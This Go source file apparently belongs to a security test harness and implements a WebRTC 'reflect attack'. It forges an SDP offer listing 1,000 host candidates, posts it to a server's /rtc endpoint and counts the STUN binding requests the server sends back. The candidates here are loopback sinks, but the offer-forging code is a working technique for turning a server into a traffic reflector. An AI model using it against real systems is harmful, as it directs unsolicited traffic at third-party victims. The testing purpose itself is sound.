//go:build linux

package main

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/pion/webrtc/v4"
)

// The reflect attack.
const (
	// sinks is how many UDP sockets of ours the offer names as its
	// candidates.
	sinks = 1000
	// countFor is how long after the POST the sinks count.
	countFor = 5 * time.Second
	// stunCookie is the magic cookie of every STUN message (RFC 5389).
	stunCookie = 0x2112A442
	// stunBindingRequest is the STUN message type of a binding request.
	stunBindingRequest = 0x0001
)

// runReflect posts one offer whose candidates are 1,000 sockets of ours
// and counts what the server sends them.
func runReflect(ctx context.Context, t *tool) row { return t.arenaRun(ctx, reflectAttack) }

// sinkCounts are the datagrams the sinks received in the window.
type sinkCounts struct {
	datagrams, stun, binding atomic.Int64
	mu                       sync.Mutex
	ports                    map[int]bool // sinks that received any
}

// reflectAttack binds the sinks, posts the offer once and counts what
// the sinks receive for countFor.
func reflectAttack(ctx context.Context, a *arenaEnv) outcome {
	if err := a.needs("web"); err != nil {
		return outcome{achieved: "did not run: " + err.Error()}
	}
	url := "http://" + a.srv.web + "/rtc"
	socks := make([]*net.UDPConn, 0, sinks)
	defer func() {
		for _, s := range socks {
			s.Close()
		}
	}()
	for range sinks {
		s, err := net.ListenUDP("udp4", &net.UDPAddr{IP: loopback().AsSlice()})
		if err != nil {
			return outcome{achieved: "did not run: binding the sinks: " + err.Error()}
		}
		socks = append(socks, s)
	}
	offer, err := reflectOffer(ctx, socks)
	if err != nil {
		return outcome{achieved: "did not run: the offer: " + err.Error()}
	}
	body, _ := json.Marshal(offer) // a session description always marshals

	counts := &sinkCounts{ports: map[int]bool{}}
	start := time.Now()
	end := start.Add(countFor)
	var wg sync.WaitGroup
	for _, s := range socks {
		wg.Go(func() { counts.read(s, end) })
	}
	joined := make(chan browsersJoined, 1)
	go func() {
		sleep(ctx, time.Second)
		joined <- joinBrowsers(ctx, url, a.pub)
	}()
	sent := postSignal(ctx, httpFrom(netip.Addr{}, signalWithin), url, body)
	wg.Wait()

	answer := fmt.Sprintf("%d in %s", sent.status, ms(sent.took))
	if sent.status == 0 {
		answer = "no answer: " + short(sent.err)
	} else if sent.answer == nil {
		answer += " (" + short(sent.err) + ")"
	}
	counts.mu.Lock()
	ports := len(counts.ports)
	counts.mu.Unlock()
	d, st, b := counts.datagrams.Load(), counts.stun.Load(), counts.binding.Load()
	achieved := fmt.Sprintf("one POST of %.0f KB naming %d sinks: %s; in %v the sinks got %d datagrams on %d ports (%d STUN, %d binding requests)",
		float64(len(body))/1000, sinks, answer, countFor, d, ports, st, b)
	return outcome{achieved: achieved, browsers: <-joined, stun: fmt.Sprintf("%d to %d ports in %v", st, ports, countFor)}
}

// read counts what s receives until end.
func (c *sinkCounts) read(s *net.UDPConn, end time.Time) {
	_ = s.SetReadDeadline(end)
	port := s.LocalAddr().(*net.UDPAddr).Port
	buf := make([]byte, 2048)
	for {
		n, err := s.Read(buf)
		if err != nil {
			if ne, ok := err.(net.Error); ok && ne.Timeout() {
				return
			}
			if time.Now().After(end) {
				return
			}
			continue // an ICMP error, say
		}
		c.datagrams.Add(1)
		if isSTUN(buf[:n]) {
			c.stun.Add(1)
			if binary.BigEndian.Uint16(buf) == stunBindingRequest {
				c.binding.Add(1)
			}
		}
		c.mu.Lock()
		c.ports[port] = true
		c.mu.Unlock()
	}
}

// isSTUN reports whether b is a STUN message: the two top bits zero, the
// magic cookie, and a length that matches.
func isSTUN(b []byte) bool {
	return len(b) >= 20 && b[0]&0xC0 == 0 && binary.BigEndian.Uint32(b[4:8]) == stunCookie &&
		int(binary.BigEndian.Uint16(b[2:4]))+20 == len(b)
}

// reflectOffer makes a real offer for the game's data channel (pion's,
// so its ICE credentials and DTLS fingerprint are well formed), removes
// its candidates and names each sink as a host candidate instead.
func reflectOffer(ctx context.Context, socks []*net.UDPConn) (*webrtc.SessionDescription, error) {
	pc, err := pionAPI(nil).NewPeerConnection(webrtc.Configuration{})
	if err != nil {
		return nil, err
	}
	defer pc.Close()
	if _, err := newDataChannel(pc); err != nil {
		return nil, err
	}
	offer, err := newOffer(ctx, pc)
	if err != nil {
		return nil, err
	}
	var b strings.Builder
	for _, line := range strings.Split(strings.TrimRight(offer.SDP, "\r\n"), "\r\n") {
		if strings.HasPrefix(line, "a=candidate:") || line == "a=end-of-candidates" {
			continue
		}
		b.WriteString(line + "\r\n")
	}
	// The data channel's m= section is the offer's only one, and its
	// last: the lines appended belong to it.
	for i, s := range socks {
		port := s.LocalAddr().(*net.UDPAddr).Port
		fmt.Fprintf(&b, "a=candidate:%d 1 udp %d %s %d typ host\r\n", i+1, 2130706431-i, loopback(), port)
	}
	b.WriteString("a=end-of-candidates\r\n")
	return &webrtc.SessionDescription{Type: webrtc.SDPTypeOffer, SDP: b.String()}, nil
}
